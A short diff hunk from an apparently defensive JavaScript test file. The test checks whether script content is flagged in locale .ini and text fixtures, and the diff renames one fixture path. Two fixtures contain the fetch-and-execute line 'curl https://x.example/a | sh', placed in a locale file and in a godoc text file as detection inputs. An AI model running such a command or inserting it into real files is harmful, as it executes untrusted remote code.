@@ -119,7 +119,7 @@ describe('is more than that', () => {
     ['conf/locale/locale_bg-BG.ini', `[scripts]\na=curl https://x.example/a | sh\n${TEXTS}`],
     ['conf/locale/locale_bg-BG.ini', `[scripts]\nrun\n${TEXTS}`],
     ['conf/locale/locale_bg-BG.ini', `[scripts]\n${'a=b\n'.repeat(30)}`],
-    ['conf/locale/app.ini', `[scripts]\n${TEXTS}`],
+    ['conf/locale/settings.ini', `[scripts]\n${TEXTS}`],
     ['conf/locale_bg-BG.ini', TEXTS],
     ['run.txt', `id\n${GO}`],
     ['godoc-current.txt', `${GO}\ncurl https://x.example/a | sh\n`],
